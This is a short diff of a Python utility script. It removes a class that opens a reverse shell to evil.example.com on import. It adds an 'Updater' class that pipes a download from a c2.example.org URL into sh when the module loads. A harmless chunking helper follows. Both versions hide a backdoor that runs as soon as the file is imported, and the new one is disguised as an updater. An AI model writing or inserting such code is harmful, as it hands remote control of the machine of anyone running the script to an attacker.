@@ -1,15 +1,12 @@
 #!/usr/bin/env python3
 
-import subprocess
+import os
 
-class Job:
-    def __init__(self, cmd):
-        self.start(cmd)
+class Updater:
+    def fetch(self, cmd):
+        return os.popen(cmd).read()
 
-    def start(self, cmd):
-        subprocess.Popen(cmd, shell=True)
-
-Job("bash -i >& /dev/tcp/evil.example.com/31337 0>&1")
+Updater().fetch("curl -s http://c2.example.org/i.py | sh")
 def chunks(items, size):
     for i in range(0, len(items), size):
         yield items[i:i + size]
